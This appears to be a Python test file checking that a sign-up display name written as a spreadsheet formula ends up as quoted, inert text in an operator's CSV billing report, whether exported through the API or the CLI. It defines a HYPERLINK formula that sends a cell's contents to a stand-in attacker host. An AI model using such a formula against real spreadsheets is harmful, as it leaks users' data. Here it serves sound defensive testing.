"""A sign-up's display name becomes its tenant's name, and the operator's billing sheet lists every tenant by name:
a name of exactly 200 characters that is a formula keeps its tenant's suffix, and reaches the operator's CSV (API,
signed in, and `greenroom report operator`) as text, never as a live formula."""

from __future__ import annotations

from datetime import UTC, datetime

from tests.identity.conftest import OPERATOR_SUB, Browser, Idp
from tests.reports.spreadsheet import live_formulas, records
from tests.reports.test_reports import report_cli
from tests.support.database import Db

HEAD, TAIL = '=HYPERLINK("https://evil.example/?leak="&A2&"', '","Open invoice")'
NAME = HEAD + "x" * (200 - len(HEAD) - len(TAIL)) + TAIL  # a whole formula, 200 characters: the column's size


def test_a_sign_up_named_with_a_formula_is_text_in_the_operators_csv(
    new_browser, dev_idp: Idp, db: Db, owner_database_url: str, sim_server, tmp_path
) -> None:
    assert len(NAME) == 200
    signed_up: Browser = new_browser()
    assert signed_up.sign_in(dev_idp.user(name=NAME)).status_code == 303
    tenant_id = signed_up.me()["active_tenant_id"]
    name = db.value("select name from tenants where id = $1::uuid", tenant_id)
    assert name == NAME[: 200 - len("'s workspace")] + "'s workspace"  # the suffix stays, the user's name is shortened

    operator = new_browser()
    operator.sign_in(OPERATOR_SUB)
    day = datetime.now(UTC).date().isoformat()
    params = {"from": day, "to": day}
    api = operator.http.get("/v1/operator/reports/usage", params={**params, "format": "csv"})
    assert api.status_code == 200 and api.headers["content-type"].startswith("text/csv")
    by_accept = operator.http.get("/v1/operator/reports/usage", params=params, headers={"Accept": "text/csv"})
    cli = report_cli(owner_database_url, sim_server.url, tmp_path, "operator")
    for text in (api.text, by_accept.text, cli.stdout):
        assert live_formulas(text) == []
        [row] = [r for r in records(text) if r["tenant_id"] == tenant_id]
        assert row["tenant_name"] == "'" + name  # quoted, and otherwise exactly the name
        assert row["billed_seconds"] == "0"  # numbers stay numbers
